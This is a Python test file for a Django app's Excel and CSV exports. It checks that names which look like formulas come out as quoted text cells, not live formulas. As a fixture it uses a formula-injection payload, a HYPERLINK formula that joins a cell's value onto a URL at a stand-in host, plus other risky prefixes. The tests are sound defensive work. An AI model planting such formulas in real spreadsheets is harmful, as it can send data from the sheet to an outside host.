"""Issue 8, point 3: no export writes a name as a live formula (formula injection).

Each export is downloaded as a user downloads it and read back: a name "=HYPERLINK(…)" (or
starting with "+", "-", "@") must be a string cell (`data_type` "s", never "f"), marked
quotePrefix so that editing it in Excel keeps it text; in the CSV it is behind an apostrophe.
Numbers stay numbers, negative ones included.
"""

import csv
import datetime as dt
import io

import openpyxl
import pytest
from django.urls import reverse

from canbo.access.models import Role
from canbo.common.spreadsheets import csv_field, is_formula_like, text_cell, write_only_row
from canbo.exchange.importers import importer_for
from canbo.exchange.workbooks import write_error_report, write_table_workbook
from canbo.org.models import UnitKind

from .. import factories as f

LINK = '=HYPERLINK("http://example.invalid/?q="&A1,"Xem")'
RISKY = [LINK, "+84 912", "-1+2", "@SUM(A1)", " =1+1"]


@pytest.fixture
def tree(db):
    root = f.make_unit("Đảng bộ Thành phố Hà Nội", kind=UnitKind.PROVINCIAL_COMMITTEE, code="HN")
    ward = f.make_unit(LINK, parent=root, code="HN-X")  # a unit named like a formula, too
    officer = f.make_user("officer_f", grants=[(root, Role.OFFICER)])
    # Born 02/1965, a man retires in August 2026: a deadline in the deadlines list.
    person = f.make_person(ward, LINK, birth_date=dt.date(1965, 2, 10))
    return {"root": root, "ward": ward, "officer": officer, "person": person}


def cells(content: bytes, sheet: int = 0):
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [cell for row in book.worksheets[sheet].iter_rows() for cell in row]


def assert_text(cells_found, value=LINK):
    found = [c for c in cells_found if c.value == value]
    assert found, f"{value!r} not in the sheet"
    for cell in found:
        assert cell.data_type == "s" and cell.data_type != "f", (cell.coordinate, cell.data_type)
        assert cell.quotePrefix, cell.coordinate
    assert not [c for c in cells_found if c.data_type == "f"]


def test_exchange_export_writes_names_as_text(client, tree):
    client.force_login(tree["officer"])
    for kind in ("people", "units"):
        response = client.get(reverse("exchange:export"), {"loai": kind, "don_vi": tree["root"].pk})
        assert_text(cells(b"".join(response.streaming_content)))


def test_exchange_error_report_writes_file_text_as_text():
    out = io.BytesIO()
    write_error_report(title="t", errors=[{"row": 2, "column": LINK, "message": "x"}], warnings=[], target=out)
    assert_text(cells(out.getvalue()))


def test_quota_table_writes_unit_names_as_text(client, tree):
    client.force_login(tree["officer"])
    response = client.get(reverse("dashboard:export_quotas", kwargs={"unit_id": tree["root"].pk}))
    found = cells(response.content)
    assert_text(found)
    assert all(c.data_type == "n" for c in found if isinstance(c.value, int | float))


def test_people_list_writes_names_as_text(client, tree):
    client.force_login(tree["officer"])
    response = client.get(reverse("dashboard:export_people", kwargs={"unit_id": tree["root"].pk}))
    found = cells(response.content)
    assert_text(found)
    assert [c.value for c in found if c.column == 1 and c.data_type == "n"] == [1]  # the row number stays a number


def test_deadlines_excel_and_csv_write_names_as_text(client, tree):
    client.force_login(tree["officer"])
    url = reverse("regulations:deadlines", kwargs={"unit_id": tree["root"].pk})
    window = {"tu": "01/01/2026", "den": "31/12/2026"}
    assert_text(cells(client.get(url, {**window, "xuat": "xlsx"}).content))
    rows = list(csv.reader(io.StringIO(client.get(url, {**window, "xuat": "csv"}).content.decode("utf-8-sig"))))
    names = [row[3] for row in rows[1:]]
    assert names and set(names) == {"'" + LINK}


@pytest.mark.parametrize("value", RISKY)
def test_every_writer_keeps_risky_text_as_text_and_numbers_as_numbers(value, db):
    assert is_formula_like(value)
    assert csv_field(value) == "'" + value and csv_field(-5) == -5 and csv_field("Nguyễn Văn An") == "Nguyễn Văn An"

    book = openpyxl.Workbook()
    sheet = book.active
    text_cell(sheet["A1"], value)
    text_cell(sheet["A2"], -5)
    text_cell(sheet["A3"], "Nguyễn Văn An")
    stream = openpyxl.Workbook(write_only=True)
    stream_sheet = stream.create_sheet("x")
    stream_sheet.append(write_only_row(stream_sheet, [value, -5, -2.5, "Nguyễn Văn An"]))
    ours = io.BytesIO()
    write_table_workbook(importer_for("units"), [["HN-Y", value, "HN", -5]], ours)

    for content, text_ref, number_refs in (
        (_saved(book), "A1", ["A2"]),
        (_saved(stream), "A1", ["B1", "C1"]),
        (ours.getvalue(), "B2", ["D2"]),
    ):
        sheet = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
        assert (sheet[text_ref].value, sheet[text_ref].data_type, sheet[text_ref].quotePrefix) == (value, "s", True)
        for ref in number_refs:
            assert sheet[ref].data_type == "n" and sheet[ref].value < 0
    plain = openpyxl.load_workbook(io.BytesIO(_saved(book))).active["A3"]
    assert (plain.data_type, plain.quotePrefix) == ("s", False)


def _saved(book) -> bytes:
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()
